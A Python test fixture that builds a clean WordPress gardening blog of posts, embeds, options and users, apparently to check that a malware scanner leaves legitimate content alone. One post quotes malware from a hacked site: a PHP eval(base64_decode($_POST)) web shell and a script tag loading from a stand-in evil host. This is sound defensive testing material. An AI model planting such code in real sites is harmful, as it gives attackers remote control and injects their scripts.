"""A clean WordPress site's content: what a scan must leave alone.

A gardening blog of some three hundred posts and pages, with what real
posts hold: Gutenberg blocks, YouTube and Vimeo embeds, maps, tweets and
Instagram posts with their scripts, a newsletter form, a spoiler hidden
with display:none, a post about cleaning a hacked site that quotes
malware, and the options a few popular plugins write.
"""

# ruff: noqa: S608 - fixtures build SQL around fixed table names and
# prefixes; every value goes in as a parameter.

from __future__ import annotations

import datetime
import random

from tests.dbscan.conftest import ScratchDatabase
from tests.dbscan.wordpress_schema import create_wordpress_tables, insert_user
from tests.dbscan.wordpress_site_options import insert_clean_options

SITE_URL = "https://greenthumbdiaries.example"
POST_COUNT = 300

SENTENCES = [
    "Tomatoes want at least six hours of direct sun and a deep, even watering.",
    "We mulch the beds with straw in May, once the soil has warmed up.",
    "Crème brûlée is the reward for a long day of weeding - don't skip it.",
    "Our heirloom 'Brandywine' plants reached two metres by mid-August.",
    "Pinch out the side shoots every week, or the plant spends itself on leaves.",
    "A cheap soil thermometer tells you more than any planting calendar.",
    "Slugs love the lettuce; a ring of crushed eggshells slows them a little.",
    "Compost that smells sour needs more browns: shredded cardboard works well.",
    "Water in the morning so the leaves dry before nightfall & mildew stays away.",
    "The allotment committee meets on the first Sunday of each month.",
    'Readers asked about "no-dig" beds, so here is how we built ours.',
    "Sow sweet peas in root trainers in October for early flowers.",
]
IMAGES = ["tomatoes", "raised-bed", "compost-bin", "sweet-peas", "allotment"]
YOUTUBE_IDS = ["dQw4w9WgXcQ", "M7lc1UVf-VE", "aqz-KE-bpKQ", "ScMzIvxBSi4"]


def paragraph(rng: random.Random) -> str:
    """One paragraph block of two or three sentences."""
    text = " ".join(rng.sample(SENTENCES, rng.randint(2, 3)))
    return f"<!-- wp:paragraph -->\n<p>{text}</p>\n<!-- /wp:paragraph -->"


def image(rng: random.Random, media_id: int) -> str:
    """An image block from the media library."""
    name = rng.choice(IMAGES)
    return (
        f'<!-- wp:image {{"id":{media_id},"sizeSlug":"large",'
        '"linkDestination":"none"} -->\n'
        f'<figure class="wp-block-image size-large"><img src="{SITE_URL}/wp-content/'
        f'uploads/2023/05/{name}-1024x683.jpg" alt="{name.replace("-", " ")}" '
        f'class="wp-image-{media_id}" loading="lazy" '
        "onload=\"this.classList.add('is-loaded')\"/></figure>\n<!-- /wp:image -->"
    )


def youtube_block(video: str) -> str:
    """A YouTube embed as the block editor saves it."""
    return (
        f'<!-- wp:embed {{"url":"https://www.youtube.com/watch?v={video}",'
        '"type":"video","providerNameSlug":"youtube","responsive":true,'
        '"className":"wp-embed-aspect-16-9 '
        'wp-has-aspect-ratio"} -->\n<figure class="wp-block-embed is-type-video '
        "is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 "
        'wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\n'
        f"https://www.youtube.com/watch?v={video}\n</div></figure>\n<!-- /wp:embed -->"
    )


def youtube_iframe(video: str) -> str:
    """A YouTube embed pasted from YouTube's Share > Embed box."""
    return (
        f'<iframe width="560" height="315" src="https://www.youtube.com/embed/{video}?si='
        'tN1x7kP0" title="YouTube video player" frameborder="0" allow="accelerometer; '
        "autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; "
        'web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen>'
        "</iframe>"
    )


EMBEDS = [
    '<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" width="640" '
    'height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" '
    "allowfullscreen></iframe>",
    '<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2483.5!2d-0.12'
    '!3d51.50" width="600" height="450" style="border:0;" allowfullscreen="" '
    'loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>',
    '<!-- wp:html -->\n<blockquote class="twitter-tweet"><p lang="en" dir="ltr">First '
    "ripe tomato of the year! 🍅</p>&mdash; Green Thumb (@greenthumb) <a href="
    '"https://twitter.com/greenthumb/status/1672341">June 24, 2023</a></blockquote> '
    '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8">'
    "</script>\n<!-- /wp:html -->",
    '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram'
    '.com/p/Cx1AbCdEf/" data-instgrm-version="14" style=" background:#FFF; border:0; '
    'margin: 1px; max-width:540px;"></blockquote>\n<script async '
    'src="//www.instagram.com/embed.js"></script>',
    '<iframe style="border-radius:12px" src="https://open.spotify.com/embed/episode/'
    '7makk4oTQel546B0PZlDM5" width="100%" height="152" frameBorder="0" allowfullscreen'
    '="" allow="autoplay; clipboard-write; encrypted-media; fullscreen; '
    'picture-in-picture" loading="lazy"></iframe>',
    '<!-- wp:html -->\n<div id="mc_embed_signup"><form action="https://greenthumb.us21'
    '.list-manage.com/subscribe/post?u=1a2b3c&amp;id=4d5e6f" method="post" '
    'id="mc-embedded-subscribe-form" target="_blank"><input type="email" name="EMAIL" '
    'class="required email" id="mce-EMAIL"><input type="submit" value="Subscribe">'
    "</form></div><script type='text/javascript' src='//s3.amazonaws.com/downloads."
    "mailchimp.com/js/mc-validate.js'></script><script type='text/javascript'>"
    "(function($) {window.fnames = new Array(); window.ftypes = new Array();"
    "fnames[0]='EMAIL';ftypes[0]='email';}(jQuery));var $mcj = jQuery.noConflict(true);"
    "</script>\n<!-- /wp:html -->",
    '<div class="spoiler"><button onclick="this.nextElementSibling.style.display='
    '\'block\'">Show the answer</button><div style="display:none">It was the slugs, '
    "every time.</div></div>",
    '<p>Further reading on the <a href="https://www.nhs.uk/medicines/sildenafil/">'
    "side effects of sildenafil</a> for gardeners on medication.</p>",
    '<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js'
    '?client=ca-pub-1234567890123456" crossorigin="anonymous"></script><ins class='
    '"adsbygoogle" style="display:block" data-ad-client="ca-pub-1234567890123456" '
    'data-ad-slot="9876543210" data-ad-format="auto"></ins><script>(adsbygoogle = '
    "window.adsbygoogle || []).push({});</script>",
]

HACKED_SITE_POST = (
    "<!-- wp:paragraph -->\n<p>Last spring the blog was hacked. The host found this "
    "at the top of every theme file:</p>\n<!-- /wp:paragraph -->\n"
    '<!-- wp:code -->\n<pre class="wp-block-code"><code>eval(base64_decode('
    "$_POST['x']));\n&lt;script src=\"https://evil.example/x.js\"&gt;&lt;/script&gt;"
    "</code></pre>\n<!-- /wp:code -->\n<!-- wp:paragraph -->\n<p>Keep plugins updated "
    "and use strong passwords.</p>\n<!-- /wp:paragraph -->"
)


def build_post(rng: random.Random, number: int) -> str:
    """The content of one ordinary post."""
    blocks = [paragraph(rng) for _ in range(rng.randint(2, 4))]
    if number % 3 == 0:
        blocks.insert(1, image(rng, 1000 + number))
    if number % 7 == 0:
        blocks.append(youtube_block(rng.choice(YOUTUBE_IDS)))
    if number % 11 == 0:
        blocks.append(youtube_iframe(rng.choice(YOUTUBE_IDS)))
    if number % 5 == 0:
        blocks.append(EMBEDS[(number // 5) % len(EMBEDS)])
    return "\n\n".join(blocks)


def insert_clean_posts(database: ScratchDatabase, prefix: str) -> None:
    """Posts, pages, revisions and attachments by the site's authors."""
    rng = random.Random(6)
    start = datetime.datetime(2015, 1, 5, 9, 30)
    rows: list[tuple[object, ...]] = []
    for number in range(1, POST_COUNT + 1):
        when = start + datetime.timedelta(days=number * 9, minutes=number)
        author = [1, 1, 1, 2, 2, 5, 6, 7][number % 8] if number > 4 else 3
        kind = "page" if number % 25 == 0 else "post"
        title = f"{rng.choice(['Notes', 'Diary', 'How-to', 'Q&A'])}: week {number}"
        content = HACKED_SITE_POST if number == 42 else build_post(rng, number)
        rows.append((number, author, when, content, title, f"week-{number}", kind, ""))
        if number % 15 == 0:
            rows.append(
                (
                    10_000 + number,
                    author,
                    when,
                    content[: len(content) // 2],
                    title,
                    f"{number}-revision-v1",
                    "revision",
                    "",
                )
            )
    for number in range(1, 31):
        name = IMAGES[number % len(IMAGES)]
        rows.append(
            (20_000 + number, 1, start, "", name, f"{name}-{number}", "attachment", "")
        )
    database.executemany(
        f"INSERT INTO {prefix}posts (ID, post_author, post_date, post_date_gmt, "
        "post_content, post_title, post_excerpt, post_name, to_ping, pinged, "
        "post_modified, post_modified_gmt, post_content_filtered, guid, post_type, "
        "post_mime_type) VALUES (%s, %s, %s, %s, %s, %s, '', %s, '', '', %s, %s, '', "
        "%s, %s, %s)",
        [
            (
                post_id,
                author,
                when,
                when,
                content,
                title,
                slug,
                when,
                when,
                f"{SITE_URL}/?p={post_id}",
                kind,
                "image/jpeg" if kind == "attachment" else mime,
            )
            for post_id, author, when, content, title, slug, kind, mime in rows
        ],
    )


CLEAN_ADMINS = (
    (
        1,
        "sarah",
        "sarah@greenthumbdiaries.example",
        datetime.datetime(2014, 3, 2, 10, 0),
    ),
    (2, "tom.editor", "tom@greenthumbdiaries.example", datetime.datetime(2016, 9, 14)),
    (
        3,
        "pixelworks",
        "support@pixelworks.co.uk",
        datetime.datetime(2019, 5, 20, 16, 2),
    ),
)


def insert_clean_users(database: ScratchDatabase, prefix: str) -> None:
    """Three admins (owner, co-editor, web agency) and twenty other users."""
    for user_id, login, email, registered in CLEAN_ADMINS:
        insert_user(
            database, prefix, user_id, login, email, registered, "administrator"
        )
    roles = ["author", "editor", "subscriber", "subscriber", "contributor"]
    now = datetime.datetime.now()
    for number in range(5, 25):
        registered = now - datetime.timedelta(days=40 * (25 - number))
        insert_user(
            database,
            prefix,
            number,
            f"reader{number}",
            f"reader{number}@mail.example",
            registered,
            roles[number % len(roles)],
        )
    # Spam sign-ups get templated names too; as subscribers they are no threat.
    insert_user(
        database,
        prefix,
        25,
        "wpsupport_1a2b3c",
        "wpsupport_1a2b3c@mail.example",
        now - datetime.timedelta(days=2),
        "subscriber",
    )


def build_clean_wordpress(database: ScratchDatabase, prefix: str = "wp_") -> None:
    """Create the tables and fill them with the clean site."""
    create_wordpress_tables(database, prefix)
    insert_clean_posts(database, prefix)
    insert_clean_options(database, prefix, SITE_URL)
    insert_clean_users(database, prefix)
